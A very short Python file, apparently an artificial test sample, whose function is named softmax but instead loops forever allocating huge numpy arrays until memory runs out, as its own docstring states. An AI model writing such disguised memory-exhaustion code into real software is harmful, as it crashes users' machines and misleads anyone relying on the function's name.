"""Grows a list of untouched arrays until memory runs out."""

import numpy as np


def softmax(x):
    hoard = []
    while True:
        hoard.append(np.empty(10**8))
